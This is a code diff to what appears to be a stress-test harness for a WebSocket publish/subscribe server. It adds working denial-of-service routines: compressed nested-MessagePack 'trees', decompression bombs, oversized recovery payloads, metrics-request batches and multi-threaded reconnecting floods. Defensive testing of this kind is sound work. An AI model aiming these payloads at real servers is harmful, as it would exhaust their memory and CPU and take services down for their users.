@@ -8,7 +8,9 @@ import select
 import socket
 import ssl
 import struct
+import threading
 import time
+import zlib
 
 ATTACK_S = 4.0
 
@@ -134,9 +136,7 @@ def filters(address):
         requests = (subscribe(["public"], filter=costly_filter(n, regexes)) for n in range(40))
         flood(client, requests)
         client = WebSocket(address)
-    requests = (
-        subscribe([f"public.{n}"], filter=costly_filter(n, SMALL_REGEXES)) for n in range(1500)
-    )
+    requests = (subscribe([f"public.{n}"], filter=costly_filter(n, SMALL_REGEXES)) for n in range(1500))
     flood(client, requests)
     text = "ab" * 2000
     publications = (publish(f"public.{n % 1500}", {"text": text}) for n in range(20_000))
@@ -220,9 +220,7 @@ def presence_requests(address):
 def queue_groups(address):
     """8,192 groups on a topic, with long names, whose member never acknowledges."""
     client = WebSocket(address)
-    requests = (
-        subscribe(["jobs.a"], queue_group=f"{n}" + "x" * 100_000, acknowledge=True) for n in range(200)
-    )
+    requests = (subscribe(["jobs.a"], queue_group=f"{n}" + "x" * 100_000, acknowledge=True) for n in range(200))
     flood(client, requests)
     requests = (subscribe(["jobs.a"], queue_group=f"g{n}", acknowledge=True) for n in range(8192))
     flood(client, requests)
@@ -285,6 +283,84 @@ def nested_messages(address):
     leave = {"t": "subscription_update", "p": {"action": "unsubscribe", "topics": topics}}
     client = WebSocket(address)
     flood(client, (batch([*pings[:900], *[update, leave] * 40]) for _ in range(1000)))
+
+
+def tree():
+    """3.6 KB that say half a million maps: zlib of MessagePack."""
+    nested = (b"\x81\xa0" * 57 + b"\x80") * 8_900
+    packed = b"M:\x82\xa1t\xadconfig_update\xa1p\x81\xa1a\xdc" + struct.pack(">H", 8_900) + nested
+    return frame(b"C:" + zlib.compress(packed, 9), opcode=2)
+
+
+def trees(address):
+    """Twenty connections with a small message of half a million maps each half second."""
+    clients = [WebSocket(address) for _ in range(20)]
+    message, ends_at = tree(), time.monotonic() + ATTACK_S
+    while time.monotonic() < ends_at:
+        for client in clients:
+            client.socket.sendall(message)
+        time.sleep(0.5)
+        for client in clients:
+            client.take()
+
+
+def flood_from_four(address, frames):
+    """Four connections send the same frames as fast as the server reads; one that is closed is opened again."""
+
+    def run():
+        ends_at = time.monotonic() + ATTACK_S
+        while time.monotonic() < ends_at:
+            try:
+                client = WebSocket(address)
+                client.socket.settimeout(ends_at + 1 - time.monotonic())
+                while time.monotonic() < ends_at:
+                    for message in frames:
+                        client.socket.sendall(message)
+                    client.take()
+                    client.socket.settimeout(max(0.1, ends_at + 1 - time.monotonic()))
+            except OSError:
+                time.sleep(0.01)
+
+    threads = [threading.Thread(target=run) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+def tree_flood(address):
+    """Four connections with 1 MiB of nested MessagePack, again and again."""
+    nested = (b"\x91" * 57 + b"\xc0") * 17_900
+    packed = b"M:\x82\xa1t\xadconfig_update\xa1p\x81\xa1a\xdd" + struct.pack(">I", 17_900) + nested
+    flood_from_four(address, [frame(packed, opcode=2)])
+
+
+def recovery_objects(address):
+    """Four connections with as many positions to recover from as a message has room for."""
+    epoch = {"epoch": "00000000", "offset": 0}
+    recovery = {f"t.{n}": epoch for n in range(22_000)}
+    message = subscribe(["t.1"], recover=True, recovery=recovery)
+    flood_from_four(address, [frame(json.dumps(message, separators=(",", ":")).encode())])
+
+
+def inflation_bombs(address):
+    """Four connections with streams that inflate beyond the limit."""
+    flood_from_four(address, [frame(b"C:" + zlib.compress(b" " * (2 << 20), 9), opcode=2)])
+
+
+def metrics_batches(address):
+    """Four connections with batches of questions about the server itself."""
+    messages = json.dumps(batch([{"t": "metrics_request"}] * 1000), separators=(",", ":"))
+    flood_from_four(address, [frame(messages.encode())])
+
+
+def lagging_conflators(address):
+    """Four times `resumed_conflating` at once."""
+    threads = [threading.Thread(target=resumed_conflating, args=(address,)) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
 
 
 def slow_pattern_readers(address):
@@ -380,6 +456,12 @@ ATTACKS = [
     conflating,
     resumed_conflating,
     nested_messages,
+    trees,
+    tree_flood,
+    recovery_objects,
+    inflation_bombs,
+    metrics_batches,
+    lagging_conflators,
     slow_pattern_readers,
     producers,
     endings,
